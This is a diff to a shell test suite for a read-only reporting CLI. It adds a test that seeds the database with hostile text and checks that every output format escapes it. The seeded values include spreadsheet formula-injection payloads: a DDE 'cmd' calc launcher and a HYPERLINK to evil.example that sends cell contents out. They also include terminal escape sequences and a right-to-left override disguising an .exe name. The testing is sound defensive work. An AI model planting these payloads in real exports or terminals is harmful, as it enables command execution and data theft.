@@ -6,8 +6,10 @@
 # with the day N days ago written @D-N@ (tomorrow @D+1@); they are made
 # concrete here with date(1). Checked: exact output of every command in
 # every format, CSV line endings (CRLF) and JSON validity, exit codes of
-# status, errors (missing database, not a database, not a wegauge store,
-# schema too new / too old, unknown workspace, usage errors), -c CONFIG,
+# status, text from the API that must not act on the reader (formulas,
+# control and bidirectional characters), errors (missing database, not a
+# database, not a wegauge store, schema too new / too old, unknown
+# workspace, usage errors), -c CONFIG,
 # that a held write lock does not block a read, that the store file is
 # never written, and the HTML report rendered by headless Chromium
 # (title, series and point counts, escaping of hostile store text).
@@ -103,8 +105,9 @@ check() {
 		fi
 		got="$out"
 		if [ "$fmt" = csv ]; then
-			# Records end in CRLF; a bare LF occurs only inside a quoted field.
+			# Records end in CRLF; no field holds a line break (it is escaped).
 			crlf=$(grep -c "$(printf '\r')\$" "$out" || true)
+			[ "$crlf" = "$(wc -l <"$out")" ] || failure "$name (csv): a line break in a field"
 			last=$(tail -c 2 "$out" | od -An -tx1 | tr -d ' ')
 			[ "$last" = 0d0a ] || failure "$name (csv): does not end in CRLF"
 			tr -d '\r' <"$out" >"$out.lf"
@@ -441,6 +444,64 @@ test_html() {
 	[ "$n" = 6 ] || failure "$n delivery series with the hostile channel, expected 6"
 }
 
+# Issue 12, findings 5 and 7: text from the API that a spreadsheet would
+# run (=, +, -, @ first) or a terminal would obey (ESC, BEL, backspace) or
+# that hides or reverses what it says (U+202E, U+200B) cannot reach the
+# reader as such: CSV neutralises formulas and escapes control characters,
+# the table also shows invisible characters, and no output of any command
+# holds a control byte.
+test_hostile_text() {
+	cp "$DB" "$DIR/hostile.db"
+	sqlite3 -bail "$DIR/hostile.db" <<-'EOF'
+		INSERT INTO seat (workspace, email, name, role, status, last_login_at, first_seen_at,
+		  last_seen_at, removed_at, pull_id, updated_at) VALUES
+		 ('globex', '@SUM(1+1)*cmd|'' /C calc''!A0',
+		  '=HYPERLINK("http://evil.example/?"&A1,"Click")', '+ADMIN', 'ACTIVE', NULL,
+		  '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z', NULL, 2, '2026-01-01T00:00:00Z'),
+		 ('globex', 'mal@globex.example', 'Mal' || char(27) || '[2J' || char(8) || 'lory',
+		  'admin' || char(0x202e) || 'gnp.exe', '-1+1', NULL, '2026-01-01T00:00:00Z',
+		  '2026-01-01T00:00:00Z', NULL, 2, '2026-01-01T00:00:00Z');
+		INSERT INTO feature_usage_daily VALUES ('globex', date('now'),
+		  '=HYPERLINK("http://evil.example")', 'deliveries', -5, 2, '2026-01-01T00:00:00Z');
+		INSERT INTO pull (id, workspace, started_at, finished_at, status, requests, retries,
+		  rows, error) VALUES (9, 'globex', date('now') || 'T08:30:00Z',
+		  date('now') || 'T08:30:01Z', 'failed', 1, 0, 0,
+		  'stream stats: malformed JSON at byte 3: invalid token near ''' || char(27) ||
+		  ']0;pwned' || char(7) || '''' || char(0x200b));
+	EOF
+	H="$DIR/hostile"
+	for cmd in "status" "report" "seats --inactive 1d" "pulls"; do
+		for fmt in table csv json; do
+			out="$H.$(echo "$cmd" | tr -c 'a-z0-9\n' _).$fmt"
+			# shellcheck disable=SC2086
+			"$WEGAUGE" -d "$DIR/hostile.db" $cmd --format "$fmt" >"$out" 2>&1 || true
+			if LC_ALL=C grep -q "$(printf '[\001-\011\013\014\016-\037\177]')" "$out"; then
+				failure "hostile text: '$cmd --format $fmt' printed a control byte"
+			fi
+			if [ "$fmt" != csv ] && grep -q "$(printf '\342\200[\213\256]')" "$out"; then
+				failure "hostile text: '$cmd --format $fmt' printed U+202E or U+200B as is"
+			fi
+		done
+	done
+	want_line() { # FILE LINE: LINE is a line of FILE (CR stripped)
+		tr -d '\r' <"$1" | grep -qxF -- "$2" || failure "hostile text: $1 lacks the line: $2"
+	}
+	want_line "$H.seats___inactive_1d.csv" \
+		"inactive,globex,,,,,,,\"'@SUM(1+1)*cmd|' /C calc'!A0\",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",\"'+ADMIN\",ACTIVE,,"
+	want_line "$H.seats___inactive_1d.csv" \
+		"inactive,globex,,,,,,,mal@globex.example,Mal\\x1b[2J\\x08lory,admin$(printf '\342\200\256')gnp.exe,\"'-1+1\",,"
+	want_line "$H.seats___inactive_1d.table" \
+		"globex     mal@globex.example           Mal\\x1b[2J\\x08lory                              admin<U+202E>gnp.exe  -1+1    -                             -"
+	want_line "$H.report.csv" \
+		"channels,globex,\"'=HYPERLINK(\"\"http://evil.example\"\")\",,-,,-,-5,new,,-,,-,,-,1,new,,,,,"
+	want_line "$H.pulls.csv" \
+		"9,globex,$(day_of 0)T08:30:00Z,$(day_of 0)T08:30:01Z,1,failed,1,0,0,\"stream stats: malformed JSON at byte 3: invalid token near '\\x1b]0;pwned\\x07'$(printf '\342\200\213')\""
+	want_line "$H.pulls.table" \
+		" 9  globex     $(day_of 0)T08:30:00Z  $(day_of 0)T08:30:01Z        1  failed            1        0     0  stream stats: malformed JSON at byte 3: invalid token near '\\x1b]0;pwned\\x07'<U+200B>"
+	want_line "$H.pulls.json" \
+		"  {\"id\":9,\"workspace\":\"globex\",\"started\":\"$(day_of 0)T08:30:00Z\",\"finished\":\"$(day_of 0)T08:30:01Z\",\"seconds\":1,\"status\":\"failed\",\"requests\":1,\"retries\":0,\"rows\":0,\"error\":\"stream stats: malformed JSON at byte 3: invalid token near '\\u001b]0;pwned\\u0007'\\u200b\"},"
+}
+
 run_all() {
 	FAILS=0
 	find "$DIR" -mindepth 1 -delete # a second run starts afresh
@@ -455,6 +516,7 @@ run_all() {
 	test_status_exit
 	test_errors
 	test_config
+	test_hostile_text
 	test_readonly
 	test_group_reader
 	test_html
